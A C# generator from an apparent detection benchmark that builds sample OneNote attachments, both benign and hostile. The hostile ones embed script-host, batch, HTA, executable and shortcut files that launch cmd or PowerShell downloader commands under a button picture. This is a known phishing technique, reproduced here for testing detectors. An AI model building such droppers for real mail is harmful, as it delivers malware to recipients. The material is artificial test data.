using System.Text;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>OneNote sections with something to run under a picture of a button, and notes with pictures and documents.</summary>
internal sealed class Notebooks : ISampleKind
{
    private static readonly AttackType[] Types = [AttackType.Behaviour];

    private static readonly byte[] Picture = [0x89, .. "PNG\r\n\x1a\n"u8, 0, 0, 0, 13, .. "IHDR"u8, 0, 0, 0, 8, 0, 0, 0, 8, 8, 2, 0, 0, 0, .. new byte[60]];

    public string Name => "notebook";

    public IEnumerable<Sample> Make(Random random)
    {
        yield return Hostile("script host file", ".wsf", $"<job><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell {random.Downloader().Replace("\"", "\"\"", StringComparison.Ordinal)}\"</script></job>");
        yield return Hostile("batch file", random.Pick([".bat", ".cmd"]), $"@echo off\r\npowershell {random.Downloader()}\r\n");
        yield return Hostile("HTML application", ".hta", $"<html><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"cmd /c {random.Word()}\"</script></html>");
        yield return HostileFile("program", ".exe", ProgramOf.Windows(random));
        yield return HostileFile("shortcut", ".lnk", new ShellLinkWriter { Path = @"C:\Windows\System32\cmd.exe", Arguments = $"/c powershell {random.Downloader()}" }.ToArray(random));

        yield return Benign("notes", []);
        yield return Benign("notes with pictures", [(".png", Picture), (".png", Picture)]);
        yield return Benign("notes with a document", [(".pdf", new PdfWriter(random).Finish("", "", $"{random.Word()} {random.Word()}"))]);
        yield return Benign("notes with a table", [(".csv", Encoding.UTF8.GetBytes($"name,count\r\n{random.Word()},{random.Next(99)}\r\n")), (".png", Picture)]);

        Sample Hostile(string name, string extension, string text) => HostileFile(name, extension, Encoding.UTF8.GetBytes(text));

        Sample HostileFile(string name, string extension, byte[] content) =>
            Sample.Hostile(name, SampleMail.With(random, new SampleFile($"{random.DocumentName()}.one", Section(random, [(".png", Picture), (extension, content)]), "application/onenote")), Types, "archive-with-executable", "shortcut-command", "behaviour-installs");

        Sample Benign(string name, (string Extension, byte[] Content)[] files) =>
            Sample.Benign(name, SampleMail.With(random, new SampleFile($"{random.DocumentName()}.one", Section(random, files), "application/onenote")));
    }

    /// <summary>
    /// The parts of a section that show and keep files ([MS-ONESTORE] 2.3.1, 2.5.21, 2.5.27, 2.6.13), in random order with filler between;
    /// the lists that tie them together are left out.
    /// </summary>
    private static byte[] Section(Random random, (string Extension, byte[] Content)[] files)
    {
        using var file = new MemoryStream();
        file.Write([0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3]);
        file.Write(random.Bytes(32));
        file.Write([0x3F, 0xDD, 0x9A, 0x10, 0x1B, 0x91, 0xF5, 0x49, 0xA5, 0xD0, 0x17, 0x91, 0xED, 0xC8, 0xAE, 0xD8]);
        file.Write(new byte[1024 - file.Length]);
        Text(file, $"{random.Word()} {random.Word()} {random.Word()}");
        List<(Guid Id, string Extension, long At)> places = [];
        foreach (var (extension, content) in files)
        {
            file.Write(new byte[8 - (file.Length % 8)]);
            places.Add((new Guid(random.Bytes(16)), extension, file.Length));
            file.Write([0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC]);
            file.Write(BitConverter.GetBytes((long)content.Length));
            file.Write(new byte[12]);
            file.Write(content);
            file.Write(new byte[8 - (file.Length % 8)]);
            file.Write([0x22, 0xA7, 0xFB, 0x71, 0x79, 0x0F, 0x0B, 0x4A, 0xBB, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6B, 0x24]);
        }

        foreach (var (id, extension, at) in places)
        {
            // FileDataStoreObjectReferenceFND, then ObjectDeclarationFileData3RefCountFND.
            file.Write(BitConverter.GetBytes(0x094u | (1u << 10)));
            file.Write(BitConverter.GetBytes(at));
            file.Write(BitConverter.GetBytes(0L));
            file.Write(id.ToByteArray());
            file.Write(random.Bytes(9));
            Counted(file, $"<ifndf>{{{id.ToString().ToUpperInvariant()}}}");
            Counted(file, extension);
            if (random.Chance(0.7))
                Text(file, $"{random.Word()}{extension}");
        }

        Text(file, $"{random.Word()} {random.Word()}");
        return file.ToArray();
    }

    private static void Counted(MemoryStream file, string text)
    {
        file.Write(BitConverter.GetBytes(text.Length));
        file.Write(Encoding.Unicode.GetBytes(text));
    }

    private static void Text(MemoryStream file, string text)
    {
        file.Write(BitConverter.GetBytes((text.Length + 1) * 2));
        file.Write(Encoding.Unicode.GetBytes($"{text}\0"));
    }
}
